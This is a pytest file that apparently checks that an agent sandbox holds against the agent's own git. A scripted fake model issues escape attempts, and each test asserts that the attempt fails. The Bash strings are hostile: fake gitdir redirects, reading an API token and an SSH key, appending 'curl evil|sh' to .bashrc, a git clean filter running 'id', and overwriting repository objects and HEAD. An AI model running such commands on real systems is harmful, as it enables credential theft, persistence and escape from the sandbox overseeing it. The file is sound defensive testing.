"""Issue 29 items 1, 2, 3 and 6: the box holds against the agent's own git (docs/security.md).

Each attack is the one the audit ran, from where the attacker stands: the agent's own Bash in
a worktree session, planned by the fake model; each judged from outside the box (a file the
worker could write and the box must not, the main repository's refs, objects and files).
"""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest

from daemon.bus.session.registry import NewSession
from daemon.fakemodel import ScriptedModel
from daemon.fakemodel.script import reply, tool
from daemon.sandbox import report, roots
from daemon.schema.workspace import WorkspacePlan
from daemon.session.runner import run_session
from daemon.workspaces.delivery import DeliverySettings
from tests.agent.conftest import NOTES, Harness, git, make_repo

pytestmark = [
    pytest.mark.processes,
    pytest.mark.skipif(not report.current().available.landlock_abi, reason="no Landlock on this host"),
]
SECRET = "data-dir-secret-" + "9c1d" * 6


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repo")


@pytest.fixture
def places(tmp_path: Path) -> Any:
    """A data dir with a secret, a home, and a folder outside every grant (the worker's)."""
    data, home, outside = tmp_path / "data", tmp_path / "home", tmp_path / "outside"
    for folder in (data, home / ".ssh", outside):
        folder.mkdir(parents=True)
    (data / "api-token").write_text(SECRET)
    (home / ".ssh" / "id_ed25519").write_text("PLANTED-KEY\n")
    (home / ".bashrc").write_text("# rc\n")
    roots.configure(roots.Roots(data, home=home))
    try:
        yield data, home, outside
    finally:
        roots._current = None


def start(harness: Harness, repo: Path) -> str:
    harness.session_id = harness.registry.create(
        NewSession(
            workflowId="two-step",
            goal="Raise VALUE",
            workspacePath=str(repo),
            stepCount=2,
            firstStepId="look",
            workspace=WorkspacePlan(branchStrategy="worktree"),
        )
    )
    return harness.session_id


def attack(*commands: str) -> ScriptedModel:
    """Each command its own Bash call (its own turn: the next command's grants are computed
    after the one before wrote its files), then the workflow ends."""
    turns = [reply(tool("Bash", command=command)) for command in commands]
    return ScriptedModel(
        [*turns, reply(tool("continue_workflow", notes=NOTES)), reply(tool("continue_workflow", notes=NOTES))]
    )


def outputs(model: ScriptedModel) -> list[str]:
    """What each Bash call returned, in order."""
    found = []
    for request in model.requests[1:]:
        for block in request.messages[-1].content:
            if getattr(block, "type", "") == "tool_result":
                found.append(str(block.content))
    return found


def run(
    harness: Harness, sid: str, model: ScriptedModel, timeout: float = 180.0, git_timeout: float = 10.0
) -> str:
    """run_session in a thread: an attack that hangs the worker fails the test, not the run."""
    result: dict[str, str] = {}
    services = harness.services(model)
    # short, so a git command an agent's FIFO hangs costs a test seconds, not the default 300
    services.delivery = DeliverySettings(git_timeout_seconds=git_timeout)
    thread = threading.Thread(target=lambda: result.update(out=run_session(sid, services)), daemon=True)
    thread.start()
    thread.join(timeout)
    assert not thread.is_alive(), f"the session hung: {outputs(model)}"
    return result["out"]


# ---- item 1: a `.git` the agent writes is never a grant ----------------------------------------


@pytest.mark.parametrize("target", ["/", "the data dir", "$HOME"])
def test_a_gitdir_line_written_by_the_agent_grants_nothing(
    harness: Harness, repo: Path, places: Any, target: str
) -> None:
    data, home, outside = places
    gitdir = {"/": "/", "the data dir": str(data), "$HOME": str(home)}[target]
    victim = {"/": outside / "planted", "the data dir": data / "planted", "$HOME": home / "planted"}[target]
    sid = start(harness, repo)
    model = attack(
        f"rm -rf .git; printf 'gitdir: {gitdir}\\n' > .git; cat .git",
        f"echo pwned > {victim}; cat {data}/api-token; cat {home}/.ssh/id_ed25519; "
        f"echo 'curl evil|sh' >> {home}/.bashrc; echo done",
    )
    run(harness, sid, model)
    said = outputs(model)
    assert "done" in said[1], said
    assert not victim.exists(), said
    assert SECRET not in said[1] and "PLANTED-KEY" not in said[1], said
    assert (home / ".bashrc").read_text() == "# rc\n"


# ---- item 2: the agent's filter never runs outside the box -------------------------------------


CLEAN = "git {where} config filter.pwn.clean 'sh -c \"id > {marker}; cat\"'"


@pytest.mark.parametrize("via", [".git", "commondir"])
def test_a_filter_the_agent_defines_never_runs_outside_the_box(
    harness: Harness, repo: Path, places: Any, via: str
) -> None:
    _data, _home, outside = places
    marker = outside / "filter-ran"
    if via == ".git":  # a gitdir of its own, whose config defines the filter
        command = (
            f"git init -q .evil && {CLEAN.format(where='-C .evil', marker=marker)} && rm -rf .git && "
            "printf 'gitdir: %s/.evil/.git\\n' \"$PWD\" > .git"
        )
    else:  # the admin folder's commondir pointed at a repository of its own
        command = (
            f'git init -q --bare "$PWD/.evil" && {CLEAN.format(where="-C .evil", marker=marker)} && '
            'echo "$PWD/.evil" > "$(git rev-parse --git-dir)/commondir"'
        )
    command += "; echo '* filter=pwn' > .gitattributes; echo changed > app.py; echo planted"
    sid = start(harness, repo)
    model = attack(command)
    run(harness, sid, model)
    assert "planted" in outputs(model)[0], outputs(model)
    assert not marker.exists(), marker.read_text()
    assert git(repo, "show", "main:app.py") == "VALUE = 1"


# ---- item 3: a worktree session rewrites nothing of the main repository -------------------------


def test_the_main_repository_objects_and_alternates_are_not_the_agents(
    harness: Harness, repo: Path, places: Any
) -> None:
    blob = git(repo, "rev-parse", "main:app.py")
    loose = repo / ".git" / "objects" / blob[:2] / blob[2:]
    before = loose.read_bytes()
    sid = start(harness, repo)
    model = attack(
        f"new=$(echo 'VALUE = 666' | git hash-object -w --stdin); d=$(git rev-parse --git-dir)/objects; "
        f"src=$(ls -d {repo}/.git/objects/${{new:0:2}}/${{new:2}} $d/${{new:0:2}}/${{new:2}} 2>/dev/null "
        "| head -1); "
        f'chmod u+w {loose}; cp -f "$src" {loose}; '
        f"echo /tmp >> {repo}/.git/objects/info/alternates; echo tried"
    )
    run(harness, sid, model)
    assert "tried" in outputs(model)[0], outputs(model)
    assert loose.read_bytes() == before
    assert git(repo, "show", "main:app.py") == "VALUE = 1"
    assert not (repo / ".git" / "objects" / "info" / "alternates").exists()


def test_a_head_pointed_at_main_moves_nothing_but_the_sessions_branch(
    harness: Harness, repo: Path, places: Any
) -> None:
    main_head, main_tree = git(repo, "rev-parse", "main"), git(repo, "rev-parse", "main^{tree}")
    sid = start(harness, repo)
    model = attack(
        "echo 'ref: refs/heads/main' > \"$(git rev-parse --git-dir)/HEAD\"; "
        f"echo 'ref: refs/heads/main' > {repo}/.git/HEAD; echo changed > app.py; echo moved"
    )
    run(harness, sid, model)
    assert "moved" in outputs(model)[0], outputs(model)
    assert git(repo, "rev-parse", "main") == main_head
    assert git(repo, "rev-parse", "main^{tree}") == main_tree
    assert (repo / "app.py").read_text() == "VALUE = 1\n"
    assert git(repo, "symbolic-ref", "HEAD") == "refs/heads/main"
    delivery = harness.record().delivery
    assert delivery is not None and delivery.branch == f"worktrain/{sid}"


# ---- item 6: a FIFO the agent leaves costs nothing ---------------------------------------------


def test_a_fifo_commondir_hangs_no_worker_thread(harness: Harness, repo: Path, places: Any) -> None:
    sid = start(harness, repo)
    model = attack(
        'd=$(git rev-parse --git-dir); rm -f "$d/commondir"; mkfifo "$d/commondir"; rm -rf .git2; echo fifo',
        "echo still-alive",
    )
    # the git command the FIFO hangs is cut at 3 s (a delivery that fails for it is still one)
    assert run(harness, sid, model, timeout=150.0, git_timeout=3.0) == "workflow_complete"
    said = outputs(model)
    assert "still-alive" in said[1], said
    assert harness.record().delivery is not None


# ---- the legitimate work still works ----------------------------------------------------------


def test_git_and_pytest_work_inside_a_worktree_session(harness: Harness, repo: Path, places: Any) -> None:
    (repo / "test_app.py").write_text("from app import VALUE\n\ndef test_value():\n    assert VALUE == 2\n")
    git(repo, "add", "-A")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "tests")
    sid = start(harness, repo)
    model = attack(
        "sed -i 's/1/2/' app.py && git diff --stat && git add app.py && "
        "git -c user.name=a -c user.email=a@a commit -qm 'Raise VALUE' && git log --oneline | head -3",
        "python -m pytest -q -p no:cacheprovider test_app.py 2>&1 | tail -2; echo extra > notes.txt",
    )
    assert run(harness, sid, model) == "workflow_complete"
    said = outputs(model)
    assert "Raise VALUE" in said[0] and "app.py" in said[0], said
    assert "1 passed" in said[1], said
    log = git(repo, "log", "--format=%s", f"worktrain/{sid}")
    assert log.splitlines()[:2] == ["Raise VALUE", "Raise VALUE"] or "Raise VALUE" in log
    assert git(repo, "show", f"worktrain/{sid}:notes.txt") == "extra"
    assert git(repo, "show", f"worktrain/{sid}:app.py") == "VALUE = 2"
    assert harness.record().delivery.state == "delivered"
    assert (repo / "app.py").read_text() == "VALUE = 1\n"


# ---- item 12: a session cancelled between attempts is still delivered --------------------------


def test_a_session_cancelled_after_its_worker_left_is_delivered_partial(
    harness: Harness, repo: Path, places: Any
) -> None:
    """Attempt 1 works in its repository and its worker stops (the session goes back to the
    queue); the coordinator cancels it before another worker claims it; the next claim
    finds the cancel and delivers the work so far — it never sits in the folder until --prune."""
    sid = start(harness, repo)
    stop = {"now": False}

    def work_then_stop(_request: Any) -> Any:
        stop["now"] = True
        return reply(tool("Bash", command="echo 'VALUE = 5' > app.py && echo edited"))

    first = run_session(sid, harness.services(ScriptedModel([work_then_stop])), lambda: stop["now"])
    assert first == "released"
    outcome, _ = harness.bus.cancel(sid)
    assert outcome in ("requested", "cancelled")
    run_session(sid, harness.services(ScriptedModel([]), worker_id="w2"))
    record = harness.record()
    assert record.status == "cancelled", record
    assert record.delivery is not None and record.delivery.state == "partial", record.delivery
    assert git(repo, "show", f"worktrain/{sid}:app.py") == "VALUE = 5"
    assert not (repo / ".worktrain" / "worktrees" / sid).exists()
